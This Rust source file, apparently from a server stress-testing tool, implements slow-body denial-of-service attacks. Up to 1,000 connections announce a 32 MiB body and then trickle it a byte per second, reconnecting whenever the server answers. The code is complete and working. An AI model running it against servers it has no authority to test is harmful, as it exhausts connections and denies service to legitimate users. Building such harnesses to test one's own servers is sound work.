//! Connections that announce a large body and hardly send it.

use std::time::Duration;

use super::{Attack, sender::Victim};

/// The announced length.
const ANNOUNCED: usize = 32 << 20;
/// The part that is sent at once by those who send most of it.
const QUICK: usize = 31 << 20;

/// The attacks of this file.
pub const ATTACKS: [Attack; 4] = [
    slow("slow-8", "8 connections announce 32 MiB and send a byte a second", 8),
    slow("slow-64", "64 connections announce 32 MiB and send a byte a second", 64),
    slow("slow-1000", "1,000 connections announce 32 MiB and send a byte a second", 1000),
    Attack {
        key: "slow-end",
        what: "16 connections send 31 MiB quickly, then a byte a second",
        connections: 16,
        run: |victim, _| Box::pin(trickle(victim, QUICK)),
        ..Attack::DEFAULT
    },
];

const fn slow(key: &'static str, what: &'static str, connections: usize) -> Attack {
    Attack { key, what, connections, run: |victim, _| Box::pin(trickle(victim, 1)), ..Attack::DEFAULT }
}

/// Sends `quick` bytes at once, and the rest byte by byte. A connection that is answered is opened again.
async fn trickle(victim: Victim, quick: usize) {
    loop {
        if let Ok(mut sender) = victim.connect().await {
            let mut start = victim.head(&format!("content-length: {ANNOUNCED}\r\n"));
            start.resize(start.len() + quick, b' ');
            let mut is_open = sender.send(&start).await.is_ok();
            while is_open {
                match tokio::time::timeout(Duration::from_secs(1), sender.answer()).await {
                    Ok(_) => break,
                    Err(_) => is_open = sender.send(b" ").await.is_ok(),
                }
            }
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
}
